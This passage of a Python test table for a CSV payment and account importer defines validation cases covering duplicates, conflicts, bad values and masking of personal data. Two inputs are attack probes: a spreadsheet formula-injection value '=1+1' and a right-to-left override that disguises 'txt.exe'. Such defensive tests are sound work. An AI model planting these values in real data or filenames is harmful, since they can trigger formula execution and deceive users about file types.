        "a zero amount and a positive reversal",
        pay(
            "P1,A1,2026-11-01,0.00,,,", "P2,A1,2026-11-01,5.00,,,B1", "P3,A2,2026-11-01,-5.00,,,B2"
        ),
        "partial",
        accepted=1,
        refused={2: "is zero", 3: "reversal is negative"},
    ),
    Case(
        "self_reversal",
        "a reversal of itself",
        pay("P1,A1,2026-11-01,-5.00,,,P1"),
        "partial",
        accepted=0,
        refused={2: "cannot reverse itself"},
    ),
    Case(
        "identical_to_loaded_rows",
        "rows identical to base payments B1 and B3: a no-op",
        pay("B1,A1,2026-09-10,500.00,,bank_transfer,", "B3,A3,2026-10-03,1000.00,,wallet,", ok(1)),
        "imported",
        accepted=1,
        duplicate=2,
    ),
    Case(
        "conflict_with_loaded_row",
        "payment B1 again with another amount: a conflict, never an overwrite",
        pay("B1,A1,2026-09-10,5000.00,,bank_transfer,", ok(1)),
        "partial",
        accepted=1,
        refused={2: "already imported with different content"},
    ),
    Case(
        "duplicates_within_file",
        "the same payment twice (identical), another twice with different amounts",
        pay(ok(1), ok(1), "P2,A1,2026-11-02,1.00,,,", "P2,A1,2026-11-02,2.00,,,"),
        "partial",
        accepted=1,
        duplicate=1,
        refused={4: "different content", 5: "different content"},
    ),
    Case(
        "all_rows_bad",
        "every row refused: the import is recorded with 0 accepted",
        pay("P1,A1,2026-11-01,abc,,,", "P2,,2026-11-01,1.00,,,"),
        "partial",
        accepted=0,
        refused={2: "not an amount", 3: "missing required value: account_id"},
    ),
    Case(
        "many_bad_rows",
        "20,000 rows, every tenth refused",
        many_bad_rows,
        "partial",
        accepted=18_000,
        refused={11: "not an amount", 20_001: "not an amount"},
        refused_total=2_000,
    ),
    Case(
        "strict_with_a_bad_row",
        "--strict (all or nothing) with one bad row",
        pay(ok(1), "P2,A1,2026-11-01,abc,,,"),
        "refused",
        strict=True,
        reason="strict",
    ),
    Case(
        "text_too_long",
        "a 600-character channel",
        pay(ok(1), "P2,A1,2026-11-01,1.00,G1," + "c" * 600 + ","),
        "partial",
        accepted=1,
        refused={3: "longer than 500"},
    ),
    Case(
        "emoji_and_rtl",
        "emoji and a right-to-left override in free text: stored as given",
        pay("P1,A1,2026-11-01,1.00,G1,card 💳\u202etxt.exe,"),
        "imported",
        accepted=1,
        stored=(CHANNEL, [("P1", "card 💳\u202etxt.exe")]),
    ),
    Case(
        "map_to_a_column",
        "an unknown header mapped by the user (--map)",
        b"txn,acct,day,amt\nP1,A1,2026-11-01,1.00\n",
        "imported",
        accepted=1,
        user_map={
            "txn": "payment_id",
            "acct": "account_id",
            "day": "payment_date",
            "amt": "amount",
        },
    ),
    # --- accounts, agents, contacts --------------------------------------------------------
    Case(
        "accounts_rules",
        "negative DPD, 1e400 DPD, 45.5 DPD, placement after as-of, negative balance",
        acc(
            acc_row("A9", "-3"),
            acc_row("A8", "1e400"),
            acc_row("A7", "45.5"),
            acc_row("A6", placed_on="2026-12-01"),
            acc_row("A5", placed="-1.00"),
            acc_row("A1", "45.0"),
        ),
        "partial",
        kind="accounts",
        accepted=1,
        refused={
            2: "days_past_due -3 is negative",
            3: "not a whole number",
            4: "not a whole number",
            5: "is after as_of_date",
            6: "placed_balance -1.00 is negative",
        },
    ),
    Case(
        "account_twice_in_snapshot",
        "one account twice in a snapshot: every copy refused",
        acc(acc_row("A9"), acc_row("A9"), acc_row("A1")),
        "partial",
        kind="accounts",
        accepted=1,
        refused={2: "appears 2 times", 3: "appears 2 times"},
    ),
    Case(
        "accounts_personal_data",
        "personal data is masked before it is stored",
        acc(acc_row("A9", name="王小明", phone="13812345678", id_number="110101199003078888")),
        "imported",
        kind="accounts",
        accepted=1,
        stored=(
            "select customer_name, phone, id_number from raw_accounts where import_id = $import_id",
            [("***", "1******5678", "110***********8888")],
        ),
    ),
    Case(
        "accounts_without_date_needs_as_of",
        "an accounts file without as_of_date and without --as-of",
        b"account_id,portfolio,placement_date,placed_balance,current_balance,days_past_due\n"
        b"A9,BANK_A,2026-01-05,10.00,10.00,3\n",
        "refused",
        kind="accounts",
        reason="missing required column as_of_date",
    ),
    Case(
        "accounts_with_as_of",
        "the same file with --as-of",
        b"account_id,portfolio,placement_date,placed_balance,current_balance,days_past_due\n"
        b"A9,BANK_A,2026-01-05,10.00,10.00,3\n",
        "imported",
        kind="accounts",
        accepted=1,
        as_of="2026-11-30",
    ),
    Case(
        "agents_bad_values",
        "an agent without team, an active flag 'maybe'",
        b"agent_id,agent_name,team,active\nG7,=1+1,,true\nG8,Bob,T1,maybe\nG9,Ann,T2,\xe6\x98\xaf\n",
        "partial",
        kind="agents",
        accepted=1,
        refused={2: "missing required value: team", 3: "is not one of"},
    ),
    Case(
        "contacts_bad_values",
        "24:00 (ISO 8601's end of day: next midnight) and 23:59:60 times, a promise without "
        "amount, an unknown outcome, Chinese channel and outcome names",
        (
            "contact_id,account_id,agent_id,contacted_at,channel,outcome,promise_amount,"
            "promise_date\n"
            "K7,A1,G1,2026-11-01 24:00:00,call,right_party,,\n"
            "K8,A1,G1,2026-11-01 23:59:60,call,right_party,,\n"
            "K9,A1,G1,2026-11-01 10:00:00,call,promise_to_pay,,2026-11-05\n"
            "K10,A1,G1,2026-11-01 10:00:00,call,maybe,,\n"
            "K11,A1,G1,2026-11-01 10:00:00,电话,承诺还款,100.00,2026-11-05\n"
        ).encode(),
        "partial",
        kind="contacts",
        accepted=2,
        refused={
            3: "not a valid date and time",
            4: "promise_amount is required",
            5: "is not one of",
        },
        stored=(
            (
                "select contact_id, contacted_at, channel, outcome from raw_contacts "
                "where import_id = $import_id order by 1"
            ),
            [
                ("K11", datetime(2026, 11, 1, 10, 0), "call", "promise_to_pay"),
                ("K7", datetime(2026, 11, 2, 0, 0), "call", "right_party"),
            ],
        ),
    ),
)


def by_name(name: str) -> Case:
    return next(c for c in CASES if c.name == name)
